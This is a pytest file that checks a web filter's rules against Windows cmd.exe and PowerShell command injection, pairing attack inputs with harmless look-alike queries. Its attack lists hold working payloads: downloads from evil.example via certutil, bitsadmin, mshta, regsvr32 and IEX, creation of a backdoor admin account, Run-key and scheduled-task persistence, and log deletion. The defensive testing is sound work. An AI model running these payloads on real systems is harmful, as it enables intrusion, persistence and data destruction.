"""WINCMD rules: cmd.exe and PowerShell command injection."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from airlock_filters import Request

from . import requests as build
from .requests import (
    assert_blocked,
    cookie,
    form,
    get,
    header,
    json_body,
    matched_keys,
    rule_ids,
    upload,
)

KEY = "WINCMD"


def query(value: str, name: str = "file") -> Request:
    return build.query(value, name, path="/download")


ENCODED = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"

ATTACKS = [
    # Batch control flow.
    query("x & for /f \"tokens=*\" %i in ('whoami') do echo %i"),
    query("for %a in (*.config) do type %a"),
    query("FOR /L %%G IN (1,1,5) DO ping -n 1 10.0.0.%%G"),
    query("x | if exist C:\\inetpub\\wwwroot\\web.config (type C:\\inetpub\\wwwroot\\web.config)"),
    query("if not defined TEMP set TEMP=C:\\x"),
    query("if %errorlevel% neq 0 exit /b 1"),
    query('if "%USERNAME%"=="admin" echo yes'),
    query("IF ERRORLEVEL 1 GOTO fail"),
    # cmd.exe itself, variables and escapes.
    query("x & cmd /c whoami"),
    query("x|cmd.exe /k net user"),
    query("%COMSPEC% /c dir C:\\"),
    query("%SystemRoot%\\system32\\calc.exe"),
    query("x&%PATH:~10,1%%PATH:~5,1%"),
    query("x & w^h^o^a^m^i"),
    query("x & set /a 6*7"),
    query("x & @echo off & echo pwned"),
    # Windows commands with their switches.
    query("x & type C:\\Windows\\win.ini"),
    query("x & dir C:\\Users /s"),
    query("x && del /f /q C:\\inetpub\\logs\\*"),
    query("x; certutil -urlcache -split -f http://evil.example/a.exe a.exe"),
    query("x & bitsadmin /transfer job http://evil.example/a.exe C:\\a.exe"),
    query("x | mshta http://evil.example/x.hta"),
    query("x & regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll"),
    query("x & wmic process call create calc"),
    query("x & net user backdoor P@ssw0rd! /add"),
    query("x & net localgroup administrators backdoor /add"),
    query("x & reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y"),
    query("x & schtasks /create /tn x /tr calc.exe /sc onlogon"),
    query("x & sc create evil binpath= C:\\evil.exe"),
    # PowerShell.
    form("x | powershell -nop -w hidden -enc " + ENCODED),
    form("powershell.exe -ExecutionPolicy Bypass -File C:\\x.ps1"),
    form("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')"),
    form("Invoke-WebRequest -Uri http://evil.example/a -OutFile a.exe"),
    form("Invoke-Expression $env:X"),
    form("x;iwr http://evil.example/p.ps1 | iex"),
    form("x; iex (iwr http://evil.example/p.ps1)"),
    form("Start-Process cmd.exe -ArgumentList '/c calc'"),
    form("[System.Convert]::FromBase64String('aWQ=')"),
    # Every kind of field.
    json_body({"path": "C:\\temp & type C:\\boot.ini"}),
    cookie("x & cmd /c ver"),
    header("User-Agent", "x & powershell -c Get-Process"),
    header("Referer", "https://shop.example.com/?q=x%26cmd%20/c%20dir"),
    get("/download?file=" + quote(quote("x & cmd /c dir"))),
]

BENIGN = [
    query("Works with Windows (cmd or PowerShell) and macOS.", "q"),
    query("powershell tutorial", "q"),
    query("windows cmd tutorial", "q"),
    query("Invoke Web Request", "q"),
    query("net weight 500g", "q"),
    query("net user guide", "q"),
    query("type C battery", "q"),
    query("copy paper a4", "q"),
    query("start/stop button", "q"),
    query("help/faq", "q"),
    query("cd/dvd drive", "q"),
    query("At 10:30 we meet", "q"),
    query("Meet at 10:30 tomorrow", "q"),
    query("50% off %SALE% items", "q"),
    query("100% cotton sheets", "q"),
    query("for 20% in (store) savings", "q"),
    query("If exist, please update", "q"),
    query("If not defined by the user, the default applies", "q"),
    query("if x == 5 then stop", "q"),
    query("Set of 4 glasses", "q"),
    query("e^x^2 growth", "q"),
    query("del taco menu", "q"),
    query("move out cleaning", "q"),
    query("systeminfo", "q"),
    query("copy-link", "share"),
    query("Copy example.com link", "q"),
    query("Chairs; set 4", "q"),
    query("(help https://example.com/faq)", "q"),
    form("C:\\Users\\John\\Documents\\report.pdf", "path"),
    form("\\\\fileserver\\share\\budget.xlsx", "path"),
    json_body({"systemInfo": {"os": "Windows 11"}, "taskList": [1, 2]}),
    json_body({"text": "Go to Settings > Apps and uninstall it."}),
    upload("C:\\Users\\me\\Pictures\\photo (1).jpg"),
    header("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"),
]

STRICT_ONLY = [
    query("Open the %APPDATA% folder", "q"),
]

BASIC = [
    query("%COMSPEC% /c dir"),
    query("x&%PATH:~10,1%%PATH:~5,1%"),
    query("x & cmd /c whoami"),
    query("for /f %i in ('dir /b') do echo %i"),
    form("powershell -enc " + ENCODED),
    form("(New-Object System.Net.WebClient).DownloadFile('http://evil.example/a','a.exe')"),
]


@pytest.mark.parametrize("request_", ATTACKS)
def test_attacks_blocked_at_standard(request_: Request) -> None:
    assert_blocked(request_, KEY)


@pytest.mark.parametrize("request_", BENIGN)
def test_look_alikes_pass_at_standard(request_: Request) -> None:
    assert KEY not in matched_keys(request_)


@pytest.mark.parametrize("request_", STRICT_ONLY)
def test_strict_only(request_: Request) -> None:
    assert KEY not in matched_keys(request_, "Standard")
    assert KEY in matched_keys(request_, "Strict")


@pytest.mark.parametrize("request_", BASIC)
def test_blocked_at_basic(request_: Request) -> None:
    assert KEY in matched_keys(request_, "Basic")


def test_standard_rules_are_off_at_basic() -> None:
    request = query("x & certutil -urlcache -f http://evil.example/a.exe")
    assert KEY not in matched_keys(request, "Basic")
    assert KEY in matched_keys(request, "Standard")


@pytest.mark.parametrize("request_", ATTACKS[::3] + BENIGN[::3])
def test_re2_twin_agrees(request_: Request) -> None:
    assert rule_ids(request_, KEY, "re2") == rule_ids(request_, KEY)
